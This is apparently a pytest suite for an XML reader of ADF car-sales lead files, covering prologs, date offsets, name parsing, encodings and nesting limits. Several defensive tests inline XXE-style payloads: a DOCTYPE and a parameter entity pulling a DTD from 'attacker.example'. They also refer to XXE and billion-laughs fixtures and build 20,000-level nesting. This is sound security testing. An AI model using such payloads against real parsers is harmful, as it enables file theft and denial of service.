"""The ADF XML reader: real-world prologs and offsets, the prospect mapping, unsafe XML refused."""
import io
import time
from pathlib import Path

import pytest

from chalicelib.formats import FileFormatError, UnsafeXmlError, open_adf

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "imports"

PROSPECT = """<prospect>
  <requestdate>{requestdate}</requestdate>
  <customer><contact>
    <name part="first">Jürgen</name><name part="last">Müller</name>
    <email>juergen.mueller@example.at</email>
  </contact></customer>
</prospect>"""


def adf(body: str, prolog: str = '<?xml version="1.0"?>\n', encoding: str = "utf-8") -> io.BytesIO:
    return io.BytesIO((prolog + f"<adf>{body}</adf>").encode(encoding))


def prospect(requestdate: str = "2017-11-10T14:30:00+01:00") -> str:
    return PROSPECT.format(requestdate=requestdate)


def test_the_sample_feed_reads_one_row_per_prospect():
    with (FIXTURES / "vienna-autoshow-2017.adf.xml").open("rb") as stream:
        lead_file = open_adf(stream)
        first, second = list(lead_file)
    assert lead_file.details == {"version": "1.0", "encoding": "utf-8"}
    assert (first.number, second.number) == (1, 2)
    assert first.errors == [] and second.errors == []
    assert first.fields == {
        "received_at": "2017-11-10T14:30:00-05:00",
        "vehicle": {
            "interest": {"make": "Volkswagen", "models": ["Tiguan"], "price": 38900, "currency": "EUR",
                         "preferred_dealer": "Autohaus Wien Mitte"},
            "next": {"purchase": "new", "usage": "buy", "financing": "loan"},
            "current": {"make": "Opel", "model": "Astra", "year": 2012, "mileage_km": 145000},
        },
        "first_name": "Jürgen", "last_name": "Müller", "email": "juergen.mueller@example.at",
        "phone": "+43 664 1234567", "street": "Mariahilfer Straße 12/3", "city": "Wien",
        "postal_code": "1060", "country": "AT",
        "source": "AutoScout24", "source_detail": "Händleranfrage",
        "remark": "Bitte Rückruf nach 17 Uhr.\n"
                  "vehicle/year: 2018\n"
                  "vehicle/trim: Highline\n"
                  "customer/contact/phone: +43 1 5320000\n"
                  "customer/contact/address/regioncode: W\n"
                  "customer/timeframe/description: innerhalb 3 Monate\n"
                  "vendor/vendorname: Autohaus Wien Mitte",
    }
    assert second.fields["first_name"] == "Sabine" and second.fields["last_name"] == "Gruber"
    assert second.fields["vehicle"]["interest"]["test_drive"] is True
    assert second.fields["source"] == "Willhaben"


def test_the_prospect_id_and_status_are_kept_in_raw():
    with (FIXTURES / "vienna-autoshow-2017.adf.xml").open("rb") as stream:
        first, second = list(open_adf(stream))
    assert first.raw["id"] == "AS24-2017-000123"
    assert first.raw["id@source"] == "autoscout24.at" and first.raw["id@sequence"] == "1"
    assert second.raw["@status"] == "resend"
    assert first.raw["customer/contact/name (2)"] == "Müller"


@pytest.mark.parametrize("prolog", [
    '<?xml version="1.0"?>\n<?adf version="1.0"?>\n',
    '<?adf version="1.0"?>\n',
    '<?ADF VERSION "1.0"?>\n',
    '<?ADF VERSION "1.0"?>\n<?XML VERSION "1.0"?>\n',  # as in the ADF 1.0 specification
    '<?ADF VERSION “1.0”?>\n<?XML VERSION “1.0”?>\n',  # the spec's curly quotes, pasted
    '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!-- exported -->\n<?ADF VERSION "1.0"?>\n',
    '',
])
def test_real_world_prologs_are_accepted(prolog):
    lead_file = open_adf(adf(prospect(), prolog))
    row, = lead_file
    assert row.fields["last_name"] == "Müller"
    assert lead_file.details["version"] == ("1.0" if "adf" in prolog.lower() else None)


def test_a_declared_encoding_is_kept_when_the_prolog_is_rebuilt():
    prolog = '<?ADF VERSION "1.0"?>\n<?xml version="1.0" encoding="ISO-8859-1"?>\n'
    lead_file = open_adf(adf(prospect(), prolog, encoding="latin-1"))
    assert next(iter(lead_file)).fields["first_name"] == "Jürgen"
    assert lead_file.details["encoding"] == "iso8859-1"


@pytest.mark.parametrize("requestdate, expected", [
    ("2017-11-10T14:30:00-0500", "2017-11-10T14:30:00-05:00"),
    ("2017-11-10T14:30:00-05:00", "2017-11-10T14:30:00-05:00"),
    ("2017-11-10T14:30:00+01:00", "2017-11-10T14:30:00+01:00"),
    ("2017-11-10T14:30:00+0100", "2017-11-10T14:30:00+01:00"),
    ("2017-11-10T14:30:00Z", "2017-11-10T14:30:00+00:00"),
    ("2017-11-10T14:30:00.000-0800", "2017-11-10T14:30:00-08:00"),
    ("2017-11-10 14:30:00", "2017-11-10T14:30:00+01:00"),  # no offset: local time
    ("2017-11-10T14:30:00", "2017-11-10T14:30:00+01:00"),
    ("2017-11-10", "2017-11-10T00:00:00+01:00"),
    ("2026-11-27T09:15:00-08:0", "2026-11-27T09:15:00-08:00"),  # a cut-off offset, as sent
    ("2026-11-27 09:15:00 MEZ", "2026-11-27T09:15:00+01:00"),
])
def test_odd_time_offsets_of_requestdate(requestdate, expected):
    row, = open_adf(adf(prospect(requestdate)))
    assert row.fields["received_at"] == expected


def test_an_unreadable_requestdate_is_a_row_error_naming_the_element():
    row, = open_adf(adf(prospect("next tuesday")))
    assert [(e["field"], e["column"]) for e in row.errors] == [("received_at", "requestdate")]


def test_an_unreadable_element_is_reported_with_its_text_as_given_and_not_fatal():
    row, = open_adf(adf(prospect("next tuesday")))
    assert (row.errors[0]["given"], row.errors[0]["fatal"]) == ("next tuesday", False)
    assert "received_at" not in row.fields and "next tuesday" not in row.fields.get("remark", "")


def test_trade_in_in_miles_full_and_business_names():
    body = """<prospect><requestdate>2017-11-10T14:30:00Z</requestdate>
      <vehicle interest="lease"><make>BMW</make><model>X1</model></vehicle>
      <vehicle interest="lease"><make>BMW</make><model>X3</model></vehicle>
      <vehicle interest="trade-in"><make>Ford</make><year>2010</year>
        <odometer units="mi">10000</odometer></vehicle>
      <customer><contact><name part="full" type="business">Autohaus Muster GmbH</name>
        <phone type="fax">01 999</phone><phone>+43 1 5321234</phone></contact></customer>
    </prospect>
    <prospect><customer><contact><name part="full">Maria Theresia von Habsburg</name>
      <email>mt@example.at</email></contact></customer>
      <vehicle><price currency="USD">30000</price></vehicle>
    </prospect>"""
    business, person = open_adf(adf(body))
    assert business.fields["salutation"] == "company"
    assert business.fields["company"] == "Autohaus Muster GmbH"
    assert "first_name" not in business.fields and "last_name" not in business.fields
    assert business.fields["vehicle"]["interest"]["models"] == ["X1", "X3"]
    assert business.fields["vehicle"]["next"]["usage"] == "leasing"
    assert business.fields["vehicle"]["current"] == {"make": "Ford", "year": 2010, "mileage_km": 16093}
    assert business.fields["phone"] == "+43 1 5321234"
    assert (person.fields["first_name"], person.fields["last_name"]) == ("Maria Theresia", "von Habsburg")
    # A price in a currency leadflow does not keep stays in the remark.
    assert "price" not in person.fields["vehicle"].get("interest", {})
    assert "vehicle/price: 30000" in person.fields["remark"]


def names(*elements: str) -> dict:
    body = f"<prospect><customer><contact>{''.join(elements)}</contact></customer></prospect>"
    row, = open_adf(adf(body))
    return row.fields


def test_a_full_name_gives_salutation_title_first_name_and_last_name_with_its_particles():
    assert names('<name part="full">Herr Prof. Dr. Hans-Peter von der Heydt</name>') == {
        "salutation": "mr", "title": "Prof. Dr.", "first_name": "Hans-Peter",
        "last_name": "von der Heydt"}
    assert names('<name part="full">Mustermann, Dr. med. Erika</name>') == {
        "title": "Dr. med.", "first_name": "Erika", "last_name": "Mustermann"}


def test_a_business_name_next_to_a_person_is_the_company_without_the_company_salutation():
    assert names('<name part="full" type="business">Huber GmbH</name>',
                 '<name part="first">Eva</name><name part="last">Huber</name>') == {
        "company": "Huber GmbH", "first_name": "Eva", "last_name": "Huber"}
    assert names('<name part="full">Firma Huber GmbH</name>') == {
        "salutation": "company", "company": "Huber GmbH"}


def test_a_full_name_that_is_only_the_word_firma_is_kept_in_the_remark():
    assert names('<name part="full">Firma</name>', '<name part="last">Huber</name>') == {
        "last_name": "Huber", "remark": "customer/contact/name: Firma"}


def test_a_first_name_part_wins_over_the_first_name_of_a_full_name():
    assert names('<name part="first">Eva</name><name part="full">Eva Maria Huber</name>') == {
        "first_name": "Eva", "last_name": "Huber"}


def test_a_full_name_next_to_a_last_name_part_is_kept_in_the_remark():
    assert names('<name part="last">Huber</name><name part="full">Eva M. Huber</name>') == {
        "last_name": "Huber", "remark": "customer/contact/name: Eva M. Huber"}


def test_resuming_skips_the_prospects_already_imported():
    rows = list(open_adf(adf(prospect() * 3)))
    assert [r.number for r in rows] == [1, 2, 3]
    assert [r.number for r in open_adf(adf(prospect() * 3), start_after=2)] == [3]


def test_xxe_is_refused_and_no_file_is_read():
    with (FIXTURES / "adf-xxe.xml").open("rb") as stream:
        with pytest.raises(UnsafeXmlError, match="DTD"):
            list(open_adf(stream))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_document_in_utf_16_or_utf_32_is_read_as_declared(encoding):
    doc = ('<?xml version="1.0" encoding="UTF-16"?>\n<adf><prospect><customer><contact>'
           '<name part="first">Jürgen</name><name part="last">Wöß</name><email>j@example.at</email>'
           '</contact></customer><vehicle><make>Škoda</make></vehicle></prospect></adf>')
    lead_file = open_adf(io.BytesIO(doc.encode(encoding)))
    [row] = list(lead_file)
    assert (row.fields["first_name"], row.fields["last_name"], row.fields["vehicle"]["interest"]["make"]) == (
        "Jürgen", "Wöß", "Škoda")
    assert lead_file.details["encoding"].startswith(encoding[:6])


def test_billion_laughs_in_utf_16_is_refused_as_well():
    body = (FIXTURES / "adf-billion-laughs.xml").read_text(encoding="utf-8").encode("utf-16")
    with pytest.raises(UnsafeXmlError):
        open_adf(io.BytesIO(body))


def test_billion_laughs_is_refused_at_once():
    started = time.perf_counter()
    with (FIXTURES / "adf-billion-laughs.xml").open("rb") as stream:
        with pytest.raises(UnsafeXmlError):
            open_adf(stream)
    assert time.perf_counter() - started < 1


def test_a_doctype_naming_a_dtd_is_read_past_and_the_dtd_never_fetched(monkeypatch):
    import urllib.request

    def no_network(*args, **kwargs):
        raise AssertionError("the parser fetched the DTD")
    monkeypatch.setattr(urllib.request, "urlopen", no_network)
    for prolog in ('<?xml version="1.0"?>\n<!DOCTYPE adf SYSTEM "http://attacker.example/adf.dtd">\n',
                   '<?xml version="1.0"?>\n<!DOCTYPE adf SYSTEM "adf.dtd">\n'):
        assert len(list(open_adf(adf(prospect(), prolog)))) == 1


def test_a_parameter_entity_pulling_an_external_dtd_is_refused():
    prolog = ('<?xml version="1.0"?>\n<!DOCTYPE adf [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">'
              ' %remote;]>\n')
    with pytest.raises(UnsafeXmlError):
        list(open_adf(adf(prospect(), prolog)))


@pytest.mark.parametrize("data, reason", [
    (b"", "not well-formed"),
    (b"<leads><lead/></leads>", "root element is <leads>"),
    (b"<adf><prospect></adf>", "not well-formed"),
    (b'<?xml version="1.0" encoding="klingon"?><adf/>', "unknown encoding"),
])
def test_a_document_that_is_no_adf_fails_with_a_reason(data, reason):
    with pytest.raises(FileFormatError, match=reason):
        list(open_adf(io.BytesIO(data)))


def nested(levels: int, text: str = "tief unten") -> str:
    return "<x>" * levels + text + "</x>" * levels


def test_content_nested_a_thousand_levels_deep_is_dropped_and_reported_and_the_prospect_kept():
    deep = prospect().replace("</prospect>", nested(1000) + "</prospect>")
    first, second = list(open_adf(adf(deep + prospect())))
    assert first.fields["last_name"] == "Müller" and first.fields["email"] == "juergen.mueller@example.at"
    error, = first.errors
    assert error["fatal"] is False and "nested deeper than 32 levels" in error["message"]
    assert error["column"].startswith("x/x/") and len(error["column"]) <= 101
    assert second.fields["last_name"] == "Müller" and second.errors == []


def test_content_nested_as_deep_as_adf_allows_is_read_into_the_remark():
    within = prospect().replace("</prospect>", nested(30, "gerade noch") + "</prospect>")
    row, = list(open_adf(adf(within)))
    assert row.errors == [] and row.fields["remark"] == "/".join(["x"] * 30) + ": gerade noch"


def test_deep_nesting_outside_a_prospect_is_dropped_without_blaming_the_next_prospect():
    row, = list(open_adf(adf(nested(1000) + prospect())))
    assert row.errors == [] and row.fields["last_name"] == "Müller"


def test_nesting_beyond_what_the_parser_may_hold_stops_the_reading_after_the_prospects_before_it():
    rows = iter(open_adf(adf(prospect() + nested(20_000))))
    assert next(rows).number == 1
    with pytest.raises(FileFormatError, match="nested more than 10,000 levels"):
        next(rows)
